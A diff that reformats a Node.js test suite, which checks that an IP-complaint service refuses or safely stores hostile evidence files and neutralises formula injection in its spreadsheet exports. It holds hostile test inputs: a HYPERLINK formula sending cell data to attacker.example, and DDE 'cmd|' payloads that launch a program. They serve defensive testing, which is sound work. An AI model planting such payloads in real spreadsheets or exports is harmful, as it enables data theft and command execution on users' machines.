@@ -5,7 +5,16 @@
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync, existsSync } from 'node:fs';
+import {
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+  existsSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import * as XLSX from 'xlsx';
@@ -30,7 +39,10 @@ function walk(dir, skip, base = dir, out = new Map()) {
     const rel = full.slice(base.length + 1);
     if (skip && (rel === skip || rel.startsWith(skip + '/'))) continue;
     if (entry.isDirectory()) walk(full, skip, base, out);
-    else { const s = statSync(full); out.set(rel, `${s.size}:${s.mtimeMs}`); }
+    else {
+      const s = statSync(full);
+      out.set(rel, `${s.size}:${s.mtimeMs}`);
+    }
   }
   return out;
 }
@@ -40,14 +52,24 @@ const bytesOf = (f) => readFileSync(join(FIXTURES_DIR, f.file));
 before(async () => {
   const t = performance.now();
   fixtures = await ensureFixtures();
-  console.log(`# fixtures ready in ${(performance.now() - t).toFixed(0)} ms (${fixtures.length} files in ${FIXTURES_DIR})`);
+  console.log(
+    `# fixtures ready in ${(performance.now() - t).toFixed(0)} ms (${fixtures.length} files in ${FIXTURES_DIR})`,
+  );
   // A sandbox: the data folder and a sibling "canary" folder that must not change.
   root = mkdtempSync(join(tmpdir(), 'ipr-hostile-'));
   dataDir = join(root, 'data');
   mkdirSync(join(root, 'canary', 'deep'), { recursive: true });
   writeFileSync(join(root, 'canary', 'deep', 'keep.txt'), 'untouched');
   before0 = walk(root, 'data');
-  server = await startServer({ port: 0, dataDir, catalogueSize: 600, onError: (e) => { serverErrors.push(String(e)); console.error('[server] unexpected error:', e); } });
+  server = await startServer({
+    port: 0,
+    dataDir,
+    catalogueSize: 600,
+    onError: (e) => {
+      serverErrors.push(String(e));
+      console.error('[server] unexpected error:', e);
+    },
+  });
   client = createIprClient({ baseUrl: server.url, token: TOKENS.complainantA, retry: false });
 });
 
@@ -56,8 +78,15 @@ after(async () => {
   if (timings.length) {
     console.log('# file                     name sent as                         outcome                      ms');
     // Names as JSON with bidi and other invisible characters escaped, so the log shows them.
-    const shown = (name) => JSON.stringify(name).replace(/[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
-    for (const t of timings) console.log(`# ${t.file.padEnd(24)} ${shown(t.name).slice(0, 36).padEnd(36)} ${t.outcome.padEnd(28)} ${t.ms.toFixed(0).padStart(6)}`);
+    const shown = (name) =>
+      JSON.stringify(name).replace(
+        /[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/g,
+        (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
+      );
+    for (const t of timings)
+      console.log(
+        `# ${t.file.padEnd(24)} ${shown(t.name).slice(0, 36).padEnd(36)} ${t.outcome.padEnd(28)} ${t.ms.toFixed(0).padStart(6)}`,
+      );
   }
   if (root) rmSync(root, { recursive: true, force: true });
 });
@@ -66,16 +95,28 @@ after(async () => {
 async function rawUpload(bytes, name) {
   const body = new FormData();
   body.append('file', new File([bytes], name));
-  const res = await fetch(`${server.url}/v1/evidence`, { method: 'POST', headers: { authorization: `Bearer ${TOKENS.complainantA}` }, body });
+  const res = await fetch(`${server.url}/v1/evidence`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${TOKENS.complainantA}` },
+    body,
+  });
   const text = await res.text();
   let data;
-  try { data = JSON.parse(text); } catch { data = text; }
+  try {
+    data = JSON.parse(text);
+  } catch {
+    data = text;
+  }
   return { status: res.status, data, type: res.headers.get('content-type') ?? '' };
 }
 
 function checkStoredName(f, name) {
   assert.ok(name.length > 0 && name.length <= 255, `${f.file}: stored name length ${name.length}`);
-  assert.doesNotMatch(name, /[\\/\u0000-\u001f\u202a-\u202e\u2066-\u2069]/, `${f.file}: stored name ${JSON.stringify(name)} is safe`);
+  assert.doesNotMatch(
+    name,
+    /[\\/\u0000-\u001f\u202a-\u202e\u2066-\u2069]/,
+    `${f.file}: stored name ${JSON.stringify(name)} is safe`,
+  );
   assert.ok(!name.startsWith('.'), `${f.file}: no leading dot`);
   if (f.expect.storedName) assert.equal(name, f.expect.storedName);
   if (f.expect.storedLength) assert.equal(name.length, f.expect.storedLength);
@@ -83,7 +124,7 @@ function checkStoredName(f, name) {
 }
 
 describe('evidence files through HTTP', () => {
-  test('each hostile evidence file: the client refuses it first with the server\'s code, the server refuses or stores it as the rules say', async () => {
+  test("each hostile evidence file: the client refuses it first with the server's code, the server refuses or stores it as the rules say", async () => {
     const evidence = fixtures.filter((f) => f.use === 'evidence');
     assert.ok(evidence.length >= 14);
     for (const f of evidence) {
@@ -105,17 +146,25 @@ describe('evidence files through HTTP', () => {
           assert.equal(stored.size, bytes.length);
           assert.equal(stored.sha256, sha256(bytes), `${f.file}: sha256 as sent`);
           // The bytes come back whole, as an attachment that is never sniffed.
-          const down = await fetch(`${server.url}/v1/evidence/${stored.id}/content`, { headers: { authorization: `Bearer ${TOKENS.complainantA}` } });
+          const down = await fetch(`${server.url}/v1/evidence/${stored.id}/content`, {
+            headers: { authorization: `Bearer ${TOKENS.complainantA}` },
+          });
           assert.equal(down.status, 200);
           assert.match(down.headers.get('content-disposition') ?? '', /^attachment;/);
           assert.equal(down.headers.get('x-content-type-options'), 'nosniff');
           assert.equal(sha256(new Uint8Array(await down.arrayBuffer())), sha256(bytes));
         }
         // The other accounts cannot see it.
-        const other = await fetch(`${server.url}/v1/evidence/${raw.data.id}/content`, { headers: { authorization: `Bearer ${TOKENS.complainantB}` } });
+        const other = await fetch(`${server.url}/v1/evidence/${raw.data.id}/content`, {
+          headers: { authorization: `Bearer ${TOKENS.complainantB}` },
+        });
         assert.equal(other.status, 404);
       } else {
-        assert.equal(viaClient.error?.code, f.expect.code, `${f.file} via client: ${JSON.stringify(viaClient.error ?? viaClient.data).slice(0, 300)}`);
+        assert.equal(
+          viaClient.error?.code,
+          f.expect.code,
+          `${f.file} via client: ${JSON.stringify(viaClient.error ?? viaClient.data).slice(0, 300)}`,
+        );
         assert.equal(viaClient.error.status, f.expect.status);
         assert.equal(viaClient.response, undefined, `${f.file}: refused before the network`);
         assert.equal(raw.status, f.expect.status, `${f.file} raw: ${JSON.stringify(raw.data).slice(0, 300)}`);
@@ -125,7 +174,12 @@ describe('evidence files through HTTP', () => {
       }
       const ms = Math.max(clientMs, rawMs);
       assert.ok(ms < 5000, `${f.file}: ${ms.toFixed(0)} ms`);
-      timings.push({ file: f.file, name: f.name, outcome: f.expect.ok ? 'stored (201)' : `${f.expect.status} ${f.expect.code}`, ms });
+      timings.push({
+        file: f.file,
+        name: f.name,
+        outcome: f.expect.ok ? 'stored (201)' : `${f.expect.status} ${f.expect.code}`,
+        ms,
+      });
     }
   });
 });
@@ -140,7 +194,11 @@ describe('spreadsheets through importLinks (Node, resolving against the server)'
       assert.ok(ms < (f.expect.slowMs ?? 5000), `${f.file}: ${ms.toFixed(0)} ms`);
       if (!f.expect.ok) {
         assert.equal(result.ok, false, `${f.file} should be refused`);
-        assert.deepEqual(result.issues.map((i) => i.code), [f.expect.code], f.file);
+        assert.deepEqual(
+          result.issues.map((i) => i.code),
+          [f.expect.code],
+          f.file,
+        );
         // The message names the file by its safe name, never the hostile one.
         assert.doesNotMatch(result.issues[0].message, /[\u0000\u202e]/);
       } else {
@@ -148,17 +206,21 @@ describe('spreadsheets through importLinks (Node, resolving against the server)'
         assert.equal(result.resolveError, undefined, `${f.file}: resolved against the server`);
         if (f.expect.valid !== undefined) assert.equal(result.summary.valid, f.expect.valid, `${f.file} valid`);
         if (f.expect.byStatus) assert.deepEqual(result.summary.byStatus, f.expect.byStatus, `${f.file} byStatus`);
-        if (f.expect.unreadRows !== undefined) assert.equal(result.summary.unreadRows, f.expect.unreadRows, `${f.file} unreadRows`);
+        if (f.expect.unreadRows !== undefined)
+          assert.equal(result.summary.unreadRows, f.expect.unreadRows, `${f.file} unreadRows`);
         for (const [row, status] of Object.entries(f.expect.rows ?? {})) {
           const got = result.rows.find((r) => r.row === Number(row));
           assert.equal(got?.status, status, `${f.file}: row ${row} (${JSON.stringify(got?.input)})`);
           if (status === 'formula') assert.equal(got.issue?.code, 'sheet.formula_cell');
         }
         // Only well-formed product links go on: no formula, no "+cmd|", no external target.
-        for (const r of result.valid) assert.match(r.url, /^https:\/\/market\.example\/product\/p\d{6}$/, `${f.file}: row ${r.row}`);
+        for (const r of result.valid)
+          assert.match(r.url, /^https:\/\/market\.example\/product\/p\d{6}$/, `${f.file}: row ${r.row}`);
         for (const r of result.valid) assert.ok(r.product, `${f.file}: row ${r.row} resolved`);
       }
-      const outcome = result.ok ? `ok ${result.summary.valid} valid/${result.summary.invalid} invalid` : result.issues[0].code;
+      const outcome = result.ok
+        ? `ok ${result.summary.valid} valid/${result.summary.invalid} invalid`
+        : result.issues[0].code;
       timings.push({ file: f.file, name: f.name, outcome, ms });
       const inflated = f.inflated ? ` (sheet XML inflates to ${(f.inflated / 1024 ** 3).toFixed(2)} GiB)` : '';
       if (f.expect.slowMs) console.log(`# ${f.file}: ${ms.toFixed(0)} ms, ${outcome}${inflated}`);
@@ -172,7 +234,8 @@ describe('spreadsheets the SDK writes neutralise formula injection', () => {
     const out = [];
     for (const name of wb.SheetNames) {
       const ws = wb.Sheets[name];
-      for (const [ref, cell] of Object.entries(ws)) if (!ref.startsWith('!')) out.push({ sheet: name, ref, v: cell.v, f: cell.f });
+      for (const [ref, cell] of Object.entries(ws))
+        if (!ref.startsWith('!')) out.push({ sheet: name, ref, v: cell.v, f: cell.f });
     }
     return out;
   };
@@ -195,7 +258,14 @@ describe('spreadsheets the SDK writes neutralise formula injection', () => {
     }
     // Product names are the sellers' text: the one free text in a status report. Put hostile
     // ones in the catalogue (straight into the server's database) and file a complaint on them.
-    const hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", '@SUM(1)', '\t=1+1 attacker.example', '\r=1+1 attacker.example'];
+    const hostile = [
+      '=HYPERLINK("http://attacker.example/?d="&A1,"open")',
+      "+cmd|' /C calc'!A0",
+      "-1+cmd|' /C calc'!A0",
+      '@SUM(1)',
+      '\t=1+1 attacker.example',
+      '\r=1+1 attacker.example',
+    ];
     const ids = hostile.map((_, i) => `prod_hostile_${i}`);
     const urls = hostile.map((_, i) => link(990_001 + i));
     await server.db.query(
@@ -204,15 +274,26 @@ describe('spreadsheets the SDK writes neutralise formula injection', () => {
        on conflict (id) do nothing`,
       [ids, urls, hostile],
     );
-    const made = await client.complaints.create({
-      type: 'copyright_infringement', productLinks: urls, description: 'Hostile product names.',
-      contact: { name: 'Lin Mei', email: 'lin.mei@aurora-lighting.example', phone: '+86 755 2345 6789' },
-      discloseContactToSupplier: false, isIprHolder: true, holder: null, evidence: [{ id: 'ev_seed_a_certificate' }],
-      declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
-    }, { idempotencyKey: `hostile-export-${Date.now()}` });
+    const made = await client.complaints.create(
+      {
+        type: 'copyright_infringement',
+        productLinks: urls,
+        description: 'Hostile product names.',
+        contact: { name: 'Lin Mei', email: 'lin.mei@aurora-lighting.example', phone: '+86 755 2345 6789' },
+        discloseContactToSupplier: false,
+        isIprHolder: true,
+        holder: null,
+        evidence: [{ id: 'ev_seed_a_certificate' }],
+        declaration: { goodFaith: true, accurate: true, authorised: true, version: DECLARATION_VERSION },
+      },
+      { idempotencyKey: `hostile-export-${Date.now()}` },
+    );
     assert.ok(made.data, JSON.stringify(made.error));
     const platform = createIprClient({ baseUrl: server.url, token: TOKENS.platform, retry: false });
-    for (const [who, c] of [['complainant', client], ['platform', platform]]) {
+    for (const [who, c] of [
+      ['complainant', client],
+      ['platform', platform],
+    ]) {
       for (const format of ['xlsx', 'csv']) {
         for (const locale of ['en', 'zh-CN']) {
           const out = await c.complaints.exportStatus({ format, locale });
@@ -223,25 +304,38 @@ describe('spreadsheets the SDK writes neutralise formula injection', () => {
           if (format === 'csv') assert.ok(text.startsWith('\ufeff'), 'CSV is UTF-8 with BOM');
           const cells = format === 'xlsx' ? cellsOf(bytes) : cellsOf(text.replace(/^\ufeff/, ''), 'string');
           const named = cells.filter((c) => typeof c.v === 'string' && /attacker\.example|cmd\||SUM\(1\)/.test(c.v));
-          assert.ok(named.length >= hostile.length, `${who} ${format} ${locale}: the hostile names are in the export (${named.length})`);
+          assert.ok(
+            named.length >= hostile.length,
+            `${who} ${format} ${locale}: the hostile names are in the export (${named.length})`,
+          );
           for (const c of cells) {
             assert.equal(c.f, undefined, `${who} ${format} ${c.ref} is not a formula`);
-            if (typeof c.v === 'string') assert.doesNotMatch(c.v, FORMULA_START, `${who} ${format} ${c.ref}: ${JSON.stringify(c.v)}`);
+            if (typeof c.v === 'string')
+              assert.doesNotMatch(c.v, FORMULA_START, `${who} ${format} ${c.ref}: ${JSON.stringify(c.v)}`);
           }
           if (format === 'csv') {
             // Every CSV field, as a spreadsheet program reads it, starts inert.
             const body = text.replace(/^\ufeff/, '');
             const fields = [];
-            let field = '', quoted = false;
+            let field = '',
+              quoted = false;
             for (let i = 0; i < body.length; i++) {
               const ch = body[i];
               if (quoted) {
-                if (ch === '"' && body[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
+                if (ch === '"' && body[i + 1] === '"') {
+                  field += '"';
+                  i++;
+                } else if (ch === '"') quoted = false;
+                else field += ch;
               } else if (ch === '"' && field === '') quoted = true;
-              else if (ch === ',' || ch === '\n') { fields.push(field.replace(/\r$/, '')); field = ''; } else field += ch;
+              else if (ch === ',' || ch === '\n') {
+                fields.push(field.replace(/\r$/, ''));
+                field = '';
+              } else field += ch;
             }
             if (field) fields.push(field);
-            for (const f of fields) assert.doesNotMatch(f, FORMULA_START, `${who} csv ${locale} field ${JSON.stringify(f)}`);
+            for (const f of fields)
+              assert.doesNotMatch(f, FORMULA_START, `${who} csv ${locale} field ${JSON.stringify(f)}`);
           }
         }
       }
@@ -264,7 +358,10 @@ describe('nothing is written outside the data folder', () => {
     assert.ok(stored.length >= 10);
     for (const name of stored) assert.match(name, /^(f[0-9a-f]{32}|seed_[a-z0-9_]+)$/, `evidence file ${name}`);
     const all = [...walk(dataDir).keys()];
-    assert.ok(all.every((p) => !/MARKER|\.\.|\u202e|\u0000/i.test(p)), 'no client-given name in the data folder');
+    assert.ok(
+      all.every((p) => !/MARKER|\.\.|\u202e|\u0000/i.test(p)),
+      'no client-given name in the data folder',
+    );
     // Where a hostile name would have landed, had it been used as a path: nothing.
     const names = fixtures.filter((f) => f.use === 'evidence').map((f) => f.name.replace(/\u0000/g, ''));
     for (const base of [join(dataDir, 'evidence'), dataDir, process.cwd(), root]) {
@@ -277,7 +374,11 @@ describe('nothing is written outside the data folder', () => {
     }
     // And no file carrying the marker anywhere in the temp folder's top level or the checkout's.
     for (const dir of [tmpdir(), '/tmp', process.cwd(), join(process.cwd(), 'reliability')]) {
-      assert.deepEqual(readdirSync(dir).filter((n) => n.includes('MARKER')), [], dir);
+      assert.deepEqual(
+        readdirSync(dir).filter((n) => n.includes('MARKER')),
+        [],
+        dir,
+      );
     }
   });
 });
